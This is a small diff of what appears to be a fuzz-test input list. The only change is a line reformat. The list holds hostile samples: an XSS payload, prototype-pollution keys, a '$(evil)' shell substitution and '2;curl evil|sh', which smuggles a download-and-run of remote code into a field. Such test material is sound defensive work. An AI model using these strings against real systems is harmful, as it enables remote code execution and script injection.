@@ -21,7 +21,8 @@ FIELDS = (
 )  # fmt: skip
 VALUES = (
     "constructor", "__proto__", "toString", "<img src=x onerror=alert(1)>", "2;curl evil|sh",
-    "$(evil)", "-1", "0", "1.5", "1e400", "0x8", "9" * 30, " ", "\x00", "\u202e\U0001f4a9", "a" * 3000,
+    "$(evil)", "-1", "0", "1.5", "1e400", "0x8", "9" * 30, " ", "\x00", "\u202e\U0001f4a9",
+    "a" * 3000,
 )  # fmt: skip
 
 
